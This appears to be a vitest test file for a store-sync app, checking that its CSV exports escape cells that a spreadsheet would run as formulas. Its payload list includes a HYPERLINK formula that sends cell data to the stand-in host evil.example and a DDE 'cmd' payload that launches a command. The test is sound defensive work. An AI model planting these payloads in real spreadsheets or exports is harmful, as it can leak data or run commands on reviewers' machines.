import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as itemsCsvRoute from '../../app/api/sync/batches/[id]/items.csv/route';
import { batches, batchItems, catalogEntities } from '../../drizzle/schema';
import { spreadsheetSafe, toCsv } from '../../lib/csv';
import { callRoute, demoToken } from '../helpers/api';
import { createStore } from '../helpers/push-fixtures';
import { startTestRuntime, type TestRuntime } from '../helpers/runtime';

/**
 * Every CSV the desk writes escapes cells a spreadsheet would run as a formula: a product title
 * `=HYPERLINK(...)` from Shopify or a supplier's file stays text when a reviewer opens the export.
 */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

let t: TestRuntime;
beforeAll(async () => {
  t = await startTestRuntime();
});
afterAll(() => t?.stop());

describe('CSV formula injection', () => {
  it('escapes formula-leading cells and leaves numbers and plain text as they are', () => {
    for (const f of FORMULAS) expect(spreadsheetSafe(f)).toBe(`'${f}`);
    for (const v of ['-5', '+3', '12.50', '-0.99', 'Blue shirt', 'a=b', '', 42]) expect(spreadsheetSafe(v)).toBe(String(v));
    const rows = parse(toCsv(['a', 'b'], [[FORMULAS[0], 'x,"y"\nz']]), { columns: true }) as Array<Record<string, string>>;
    expect(rows).toEqual([{ a: `'${FORMULAS[0]}`, b: 'x,"y"\nz' }]);
  });

  it("escapes a batch's items.csv: titles, ids and errors that begin like a formula", async () => {
    const store = await createStore(t.runtime.db);
    const key = 'gid://shopify/Product/1';
    await t.runtime.db.insert(catalogEntities).values({
      storeId: store.id,
      entity: 'product',
      key,
      productKey: key,
      local: { title: FORMULAS[0] },
      remote: { title: FORMULAS[0] },
    });
    const [batch] = await t.runtime.db
      .insert(batches)
      .values({ storeId: store.id, kind: 'push', createdBy: 'test', status: 'completed' })
      .returning();
    await t.runtime.db.insert(batchItems).values({
      batchId: batch!.id,
      storeId: store.id,
      side: 'shopify',
      entity: 'product',
      entityKey: key,
      status: 'failed',
      error: FORMULAS[3],
      idempotencyKey: randomUUID(),
    });
    const res = await callRoute(itemsCsvRoute.GET, { params: { id: batch!.id }, token: await demoToken('support') });
    expect(res.status).toBe(200);
    const [row] = parse(String(res.body), { columns: true }) as Array<Record<string, string>>;
    expect(row!.product_title).toBe(`'${FORMULAS[0]}`);
    expect(row!.error).toBe(`'${FORMULAS[3]}`);
    for (const [column, cell] of Object.entries(row!)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
  });
});
